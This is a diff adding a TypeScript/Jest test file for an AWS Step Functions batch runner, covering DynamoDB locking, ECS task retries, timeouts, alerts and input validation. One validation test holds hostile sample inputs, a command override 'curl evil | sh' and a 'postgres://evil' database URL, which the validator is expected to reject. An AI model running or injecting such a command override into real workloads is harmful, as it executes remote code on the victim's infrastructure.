@@ -1,0 +1,404 @@
+import { DeleteItemCommand } from '@aws-sdk/client-dynamodb';
+import type { EmbeddedDynamoDb } from '../../local/lock-store';
+import { capacityFailure, FAMILY, newTaskArn } from '../fixtures/ecs-payloads';
+import {
+  executionArn,
+  holdLock,
+  LOCK_TABLE,
+  runScenario,
+  SCHEDULED_INPUT,
+  type ScenarioResult,
+  ScriptedAws,
+  startLockStore,
+  TOPIC_ARN,
+} from '../support/asl-harness';
+
+/**
+ * Path-by-path scenarios of state-machines/batch-runner.asl.json, executed by aws-local-stepfunctions
+ * with the lock in dynalite (real conditional writes) and ECS/SFN/SNS answered with realistic payloads.
+ */
+
+let db: EmbeddedDynamoDb;
+let aws: ScriptedAws;
+
+beforeAll(async () => {
+  db = await startLockStore();
+});
+afterAll(async () => {
+  await db.close();
+});
+beforeEach(async () => {
+  aws = new ScriptedAws();
+  await db.client.send(new DeleteItemCommand({ TableName: LOCK_TABLE, Key: { batch: { S: FAMILY } } }));
+});
+
+const callsTo = (r: ScenarioResult, state: string) => r.calls.filter((c) => c.state === state);
+const alerts = () => aws.published.filter((p) => p.MessageAttributes.severity.StringValue === 'alert');
+const failureAlerts = (r: ScenarioResult) => r.statesEntered.filter((s) => s === 'PublishFailureAlert');
+
+describe('happy path', () => {
+  test('scheduled run: lock, running-task check, start, watch, release in 8 states and 3 calls before RunTask', async () => {
+    const r = await runScenario(db, aws, { name: 'HappyPath' });
+
+    expect(r.status).toBe('SUCCEEDED');
+    expect(r.output).toMatchObject({ outcome: 'succeeded', task: { exitCode: 0, taskArn: aws.startedTasks[0] }, lockRelease: { status: 'released' } });
+    expect(r.output.task.logUrl).toContain('log-group/$252Fecs$252Fmissing-images');
+    expect(r.statesEntered).toEqual([
+      'RouteInput', 'PrepareScheduledRun', 'AcquireLock', 'CheckRunningTasks', 'IsBatchAlreadyRunning', 'StartBatchTask', 'WaitForTaskToStop', 'ReleaseLock',
+    ]);
+    expect(r.calls.map((c) => c.state).indexOf('StartBatchTask')).toBe(2);
+    expect(callsTo(r, 'AcquireLock')[0].params).toMatchObject({
+      TableName: LOCK_TABLE,
+      ConditionExpression: 'attribute_not_exists(#batch)',
+      Item: { batch: { S: FAMILY }, owner: { S: r.executionArn }, trigger: { S: 'schedule' } },
+    });
+    expect(callsTo(r, 'CheckRunningTasks')[0].params).toMatchObject({ Family: FAMILY, DesiredStatus: 'RUNNING' });
+    expect(callsTo(r, 'StartBatchTask')[0].params).toMatchObject({ Group: `batch-runner:${FAMILY}`, Count: 1, Overrides: {} });
+    expect(callsTo(r, 'ReleaseLock')[0].params).toMatchObject({ ConditionExpression: '#owner = :me', ExpressionAttributeValues: { ':me': { S: r.executionArn } } });
+    expect(r.lockItem).toBeUndefined();
+    expect(aws.published).toEqual([]);
+  });
+
+  test('console start with {} goes through the validator and runs with trigger "console"', async () => {
+    const r = await runScenario(db, aws, { input: {} });
+
+    expect(r.status).toBe('SUCCEEDED');
+    expect(r.statesEntered.slice(0, 4)).toEqual(['RouteInput', 'ValidateManualInput', 'IsManualInputValid', 'AcquireLock']);
+    expect(callsTo(r, 'AcquireLock')[0].params.Item.trigger).toEqual({ S: 'console' });
+  });
+
+  test('manual input with an allowed override reaches RunTask as a container override', async () => {
+    const r = await runScenario(db, aws, { input: { trigger: 'cli', reason: 're-run after fix', requestedBy: 'ops@example.com', overrides: { environment: { DRY_RUN: 'true' } } } });
+
+    expect(r.status).toBe('SUCCEEDED');
+    expect(callsTo(r, 'StartBatchTask')[0].params.Overrides).toEqual({
+      ContainerOverrides: [{ Name: 'app', Environment: [{ Name: 'DRY_RUN', Value: 'true' }] }],
+    });
+    expect(callsTo(r, 'AcquireLock')[0].params.Item).toMatchObject({ requestedBy: { S: 'ops@example.com' }, reason: { S: 're-run after fix' } });
+  });
+
+  test('a non-zero sidecar does not fail the run: only the batch container counts', async () => {
+    aws.watch = { exitCode: 0, sidecarExitCode: 137 };
+    const r = await runScenario(db, aws);
+
+    expect(r.status).toBe('SUCCEEDED');
+    expect(r.output.task.containers).toEqual([
+      { name: 'app', exitCode: 0, reason: null },
+      { name: 'log-router', exitCode: 137, reason: null },
+    ]);
+  });
+});
+
+describe('lock contention', () => {
+  test('lock held by a live execution: skipped with the holder named, lock untouched, a notice (not an alert)', async () => {
+    const holder = executionArn('NightlyRunStillGoing');
+    aws.executions.set(holder, 'RUNNING');
+    await holdLock(db, holder);
+
+    const r = await runScenario(db, aws);
+
+    expect(r.status).toBe('SUCCEEDED');
+    expect(r.output).toMatchObject({ outcome: 'skipped', lockHolder: holder });
+    expect(r.output.reason).toContain(holder);
+    expect(callsTo(r, 'StartBatchTask')).toHaveLength(0);
+    expect(r.lockItem?.owner.S).toBe(holder);
+    expect(aws.published).toHaveLength(1);
+    expect(aws.published[0]).toMatchObject({ TopicArn: TOPIC_ARN, MessageAttributes: { severity: { StringValue: 'notice' }, outcome: { StringValue: 'skipped' } } });
+    expect(aws.published[0].Message).toContain(holder);
+  });
+
+  test('skipNotification "alert" publishes the skip at alert severity; "none" publishes nothing', async () => {
+    const holder = executionArn('Holder');
+    aws.executions.set(holder, 'RUNNING');
+    await holdLock(db, holder);
+
+    await runScenario(db, aws, { batch: { skipNotification: 'alert' } });
+    const quiet = await runScenario(db, aws, { batch: { skipNotification: 'none' } });
+
+    expect(aws.published.map((p) => p.MessageAttributes.severity.StringValue)).toEqual(['alert']);
+    expect(quiet.output.outcome).toBe('skipped');
+  });
+
+  test.each(['FAILED', 'TIMED_OUT', 'ABORTED', 'SUCCEEDED'])('lock held by a %s execution is reclaimed with a conditional write naming it, and the batch runs', async (status) => {
+    const stale = executionArn(`Stale${status}`);
+    aws.executions.set(stale, status);
+    await holdLock(db, stale);
+
+    const r = await runScenario(db, aws);
+
+    expect(r.status).toBe('SUCCEEDED');
+    expect(callsTo(r, 'ReclaimStaleLock')[0].params).toMatchObject({
+      ConditionExpression: '#owner = :staleOwner',
+      ExpressionAttributeValues: { ':staleOwner': { S: stale } },
+      Item: { owner: { S: r.executionArn }, reclaimedFrom: { S: stale } },
+    });
+    expect(aws.startedTasks).toHaveLength(1);
+    expect(r.lockItem).toBeUndefined();
+  });
+
+  test('lock held by an execution that no longer exists (history expired) is reclaimed', async () => {
+    await holdLock(db, executionArn('DeletedLongAgo'));
+
+    const r = await runScenario(db, aws);
+
+    expect(callsTo(r, 'CheckLockHolderLiveness')[0].error?.name).toBe('Sfn.ExecutionDoesNotExistException');
+    expect(r.output.outcome).toBe('succeeded');
+  });
+
+  test('two reclaimers race for one stale lock: exactly one runs, the other skips naming the winner', async () => {
+    const stale = executionArn('Crashed');
+    aws.executions.set(stale, 'FAILED');
+    await holdLock(db, stale);
+    aws.whileTaskRuns = () => new Promise((resolve) => setTimeout(resolve, 300));
+
+    const [a, b] = await Promise.all([runScenario(db, aws, { name: 'ReclaimerA' }), runScenario(db, aws, { name: 'ReclaimerB' })]);
+
+    const outcomes = [a.output.outcome, b.output.outcome].sort();
+    expect(outcomes).toEqual(['skipped', 'succeeded']);
+    expect(aws.startedTasks).toHaveLength(1);
+    const [winner, loser] = a.output.outcome === 'succeeded' ? [a, b] : [b, a];
+    expect(loser.output.lockHolder).toBe(winner.executionArn);
+    // Both tried to reclaim from the same stale owner; the database let only one through.
+    expect(callsTo(a, 'ReclaimStaleLock').length + callsTo(b, 'ReclaimStaleLock').length).toBe(2);
+    expect(callsTo(loser, 'ReclaimStaleLock')[0].error?.name).toBe('DynamoDB.ConditionalCheckFailedException');
+    expect(winner.lockItem).toBeUndefined();
+  });
+
+  test('an AcquireLock whose first write landed but whose answer was lost proceeds as the owner', async () => {
+    // The put landed before the (retried) attempt: the item already names this very execution.
+    await holdLock(db, executionArn('AnswerLost'));
+
+    const r = await runScenario(db, aws, { name: 'AnswerLost' });
+
+    expect(r.statesEntered.slice(2, 6)).toEqual(['AcquireLock', 'ReadLockHolder', 'EvaluateLockHolder', 'CheckRunningTasks']);
+    expect(callsTo(r, 'CheckLockHolderLiveness')).toHaveLength(0);
+    expect(r.output.outcome).toBe('succeeded');
+    expect(r.lockItem).toBeUndefined();
+  });
+});
+
+describe('running-task check', () => {
+  test('a task of the family started by hand: skipped, lock released, its ARN reported, nothing started', async () => {
+    const manual = newTaskArn();
+    aws.listTasksAnswers = [[manual]];
+
+    const r = await runScenario(db, aws);
+
+    expect(r.output).toMatchObject({ outcome: 'skipped', runningTaskArns: [manual] });
+    expect(callsTo(r, 'StartBatchTask')).toHaveLength(0);
+    expect(callsTo(r, 'ReleaseLockAfterSkip')).toHaveLength(1);
+    expect(r.lockItem).toBeUndefined();
+    expect(aws.published[0].Message).toContain(manual);
+  });
+});
+
+describe('starting the task', () => {
+  test('capacity failure (failures[] RESOURCE:MEMORY) then success: retried after a backoff', async () => {
+    aws.runTaskAnswers = [capacityFailure('RESOURCE:MEMORY'), 'start'];
+
+    const r = await runScenario(db, aws);
+
+    expect(r.status).toBe('SUCCEEDED');
+    expect(callsTo(r, 'StartBatchTask')).toHaveLength(2);
+    expect(r.statesEntered).toContain('BackOffBeforeRetryingStart');
+  });
+
+  test('capacity failures exhausted: could_not_start, one alert, lock released', async () => {
+    aws.runTaskAnswers = [capacityFailure(), capacityFailure(), capacityFailure(), capacityFailure('RESOURCE:CPU')];
+
+    const r = await runScenario(db, aws);
+
+    expect(r.status).toBe('FAILED');
+    expect(r.error).toBe('BatchRunner.CouldNotStart');
+    expect(r.cause).toContain('capacity failures retried: 4');
+    expect(r.cause).toContain('RESOURCE:CPU');
+    expect(callsTo(r, 'StartBatchTask')).toHaveLength(4);
+    expect(r.lockItem).toBeUndefined();
+    expect(alerts()).toHaveLength(1);
+    expect(alerts()[0].MessageAttributes.outcome.StringValue).toBe('could_not_start');
+  });
+
+  test('RunTask API throttled: retried by the state, then runs', async () => {
+    const r = await runScenario(db, aws, {
+      inject: (call, attempt) => (call.state === 'StartBatchTask' && attempt < 2 ? Object.assign(new Error('Rate exceeded'), { name: 'ECS.ThrottlingException' }) : undefined),
+    });
+    expect(callsTo(r, 'StartBatchTask').map((c) => c.error?.name)).toEqual(['ECS.ThrottlingException', 'ECS.ThrottlingException', undefined]);
+    expect(r.output.outcome).toBe('succeeded');
+  });
+});
+
+describe('failures and the hard timeout', () => {
+  test('non-zero exit: failed with exit code and stop reason, lock released, one alert with the log link', async () => {
+    aws.watch = { exitCode: 3 };
+
+    const r = await runScenario(db, aws);
+
+    expect(r.status).toBe('FAILED');
+    expect(r.error).toBe('BatchRunner.TaskFailed');
+    expect(r.lockItem).toBeUndefined();
+    expect(alerts()).toHaveLength(1);
+    const alert = alerts()[0];
+    expect(alert.Subject).toBe('[batch-runner] missing-images failed');
+    expect(alert.Message).toContain('"exitCode":3');
+    expect(alert.Message).toContain('Essential container in task exited');
+    expect(alert.Message).toContain(aws.startedTasks[0]);
+    expect(alert.Message).toContain('log-events/batch$252Fapp$252F');
+    expect(alert.Message).toContain(`#/v2/executions/details/${r.executionArn}`);
+    expect(alert.MessageAttributes).toMatchObject({ batch: { StringValue: FAMILY }, trigger: { StringValue: 'schedule' } });
+  });
+
+  test('hard timeout: StopTask on its own task ARN with a reason, lock released only after STOPPED, one "timed out" alert', async () => {
+    aws.watch = 'hang';
+    aws.describeCallsUntilStopped = 2;
+
+    const r = await runScenario(db, aws, { substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '2', HardTimeoutSeconds: '2' } });
+
+    expect(r.status).toBe('FAILED');
+    expect(r.error).toBe('BatchRunner.TimedOut');
+    expect(r.statesEntered.filter((s) => s === 'WaitForTaskToStop')).toHaveLength(2);
+    expect(aws.stopRequests).toEqual([{ task: aws.startedTasks[0], reason: expect.stringMatching(/^batch-runner: hard timeout of 2 s reached \(execution /) }]);
+    const order = r.calls.map((c) => c.state);
+    const stoppedConfirmed = order.lastIndexOf('ConfirmTaskStopped');
+    expect(callsTo(r, 'ConfirmTaskStopped').at(-1)?.result).toMatchObject({ Tasks: [{ LastStatus: 'STOPPED' }] });
+    expect(order.indexOf('ReleaseLockAfterFailure')).toBeGreaterThan(stoppedConfirmed);
+    expect(r.lockItem).toBeUndefined();
+    expect(alerts()).toHaveLength(1);
+    expect(alerts()[0].Subject).toBe('[batch-runner] missing-images timed_out');
+    expect(alerts()[0].Message).toContain('Task may still run: false');
+  });
+
+  test('STOPPED never confirmed: bounded checks, lock released, the alert says the task may still run', async () => {
+    aws.watch = 'hang';
+    aws.describeCallsUntilStopped = Number.POSITIVE_INFINITY;
+
+    const r = await runScenario(db, aws, { substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '1', StopConfirmAttempts: '3' } });
+
+    expect(r.error).toBe('BatchRunner.TimedOut');
+    expect(callsTo(r, 'ConfirmTaskStopped')).toHaveLength(4);
+    expect(r.statesEntered).toContain('NoteTaskMayStillRun');
+    expect(r.lockItem).toBeUndefined();
+    expect(alerts()).toHaveLength(1);
+    expect(alerts()[0].Message).toContain('Task may still run: true');
+  });
+});
+
+describe('releasing the lock', () => {
+  test('release fails transiently: retried, then released', async () => {
+    const r = await runScenario(db, aws, {
+      inject: (call, attempt) =>
+        call.state === 'ReleaseLock' && attempt < 2 ? Object.assign(new Error('Throughput exceeded'), { name: 'DynamoDB.ProvisionedThroughputExceededException' }) : undefined,
+    });
+    expect(callsTo(r, 'ReleaseLock')).toHaveLength(3);
+    expect(r.output).toMatchObject({ outcome: 'succeeded', lockRelease: { status: 'released' } });
+    expect(r.lockItem).toBeUndefined();
+  });
+
+  test('release finds another owner: reported as lock lost, the other owner keeps its lock', async () => {
+    const intruder = executionArn('ForcedUnlockThenStarted');
+    aws.whileTaskRuns = async () => holdLock(db, intruder);
+
+    const r = await runScenario(db, aws);
+
+    expect(r.status).toBe('FAILED');
+    expect(r.error).toBe('BatchRunner.LockLost');
+    expect(r.lockItem?.owner.S).toBe(intruder);
+    expect(alerts()).toHaveLength(1);
+    expect(alerts()[0].Message).toContain('may have overlapped');
+  });
+});
+
+describe('input', () => {
+  test.each([
+    ['unknown key', { reasn: 'typo' }, 'unknown key "reasn"'],
+    ['override outside the allow-list', { overrides: { environment: { DATABASE_URL: 'postgres://evil' } } }, 'overrides.environment.DATABASE_URL is not allowed'],
+    ['command override on a batch that does not allow it', { overrides: { command: ['sh', '-c', 'curl evil | sh'] } }, 'overrides.command is not allowed'],
+    ['wrong type', { reason: 42 }, 'reason = 42 must be a non-empty string'],
+    ['not an object', ['run'], 'input must be a JSON object'],
+    ['schedule trigger forged with extra keys', { ...SCHEDULED_INPUT, overrides: { environment: { DRY_RUN: 'x' } } }, 'trigger = "schedule" is not allowed'],
+  ])('invalid manual input (%s): fails before the lock, nothing started, one alert naming the problem', async (_label, input, message) => {
+    const r = await runScenario(db, aws, { input });
+
+    expect(r.status).toBe('FAILED');
+    expect(r.error).toBe('BatchRunner.InvalidInput');
+    expect(r.cause).toContain(message);
+    expect(r.calls.map((c) => c.state)).toEqual(['ValidateManualInput', 'PublishFailureAlert']);
+    expect(r.lockItem).toBeUndefined();
+    expect(alerts()).toHaveLength(1);
+    expect(alerts()[0].MessageAttributes.outcome.StringValue).toBe('invalid_input');
+  });
+
+  test('invalid input does not disturb a lock held by a running execution', async () => {
+    const holder = executionArn('Running');
+    aws.executions.set(holder, 'RUNNING');
+    await holdLock(db, holder);
+
+    const r = await runScenario(db, aws, { input: { reason: '' } });
+
+    expect(r.error).toBe('BatchRunner.InvalidInput');
+    expect(r.lockItem?.owner.S).toBe(holder);
+  });
+});
+
+describe('alerting', () => {
+  test('alert publish fails: still ends FAILED with the original error, lock released, one alert attempted', async () => {
+    aws.watch = { exitCode: 1 };
+    const r = await runScenario(db, aws, {
+      inject: (call) => (call.state === 'PublishFailureAlert' ? Object.assign(new Error('Topic unavailable'), { name: 'SNS.InternalErrorException' }) : undefined),
+    });
+
+    expect(r.status).toBe('FAILED');
+    expect(r.error).toBe('BatchRunner.TaskFailed');
+    expect(r.lockItem).toBeUndefined();
+    expect(failureAlerts(r)).toHaveLength(1);
+    expect(aws.published).toHaveLength(0);
+  });
+});
+
+describe('overlap policies', () => {
+  test('wait: gets the lock once the holder finishes', async () => {
+    const holder = executionArn('FinishingSoon');
+    aws.executions.set(holder, 'RUNNING');
+    await holdLock(db, holder);
+    aws.beforeDescribeExecution = async (n) => {
+      // The holder releases its lock between our first and second wait (it is still finishing).
+      if (n === 2) {
+        await db.client.send(new DeleteItemCommand({ TableName: LOCK_TABLE, Key: { batch: { S: FAMILY } } }));
+      }
+    };
+
+    const r = await runScenario(db, aws, { batch: { overlapPolicy: 'wait' } });
+
+    expect(r.output.outcome).toBe('succeeded');
+    expect(r.statesEntered.filter((s) => s === 'WaitForLock')).toHaveLength(2);
+    expect(aws.startedTasks).toHaveLength(1);
+  });
+
+  test('wait: gives up after the bound and skips, naming the holder', async () => {
+    const holder = executionArn('StuckForHours');
+    aws.executions.set(holder, 'RUNNING');
+    await holdLock(db, holder);
+
+    const r = await runScenario(db, aws, { batch: { overlapPolicy: 'wait' }, substitutions: { LockWaitAttempts: '3' } });
+
+    expect(r.output).toMatchObject({ outcome: 'skipped', lockHolder: holder });
+    expect(r.statesEntered.filter((s) => s === 'WaitForLock')).toHaveLength(3);
+    expect(callsTo(r, 'StartBatchTask')).toHaveLength(0);
+  });
+
+  test('replace: stops the running copy (execution and task), reclaims the lock, then runs', async () => {
+    const holder = executionArn('HungFor15Hours');
+    const hungTask = newTaskArn();
+    aws.executions.set(holder, 'RUNNING');
+    await holdLock(db, holder);
+    aws.listTasksAnswers = [[hungTask], []];
+
+    const r = await runScenario(db, aws, { batch: { overlapPolicy: 'replace' } });
+
+    expect(callsTo(r, 'StopLockHolder')[0].params).toMatchObject({ ExecutionArn: holder, Error: 'BatchRunner.Replaced' });
+    expect(callsTo(r, 'ReclaimStaleLock')[0].params.ExpressionAttributeValues).toEqual({ ':staleOwner': { S: holder } });
+    expect(aws.stopRequests).toEqual([{ task: hungTask, reason: expect.stringContaining('replaced by execution') }]);
+    expect(callsTo(r, 'CheckRunningTasks')).toHaveLength(2);
+    expect(r.output.outcome).toBe('succeeded');
+    expect(aws.startedTasks).toHaveLength(1);
+  });
+});
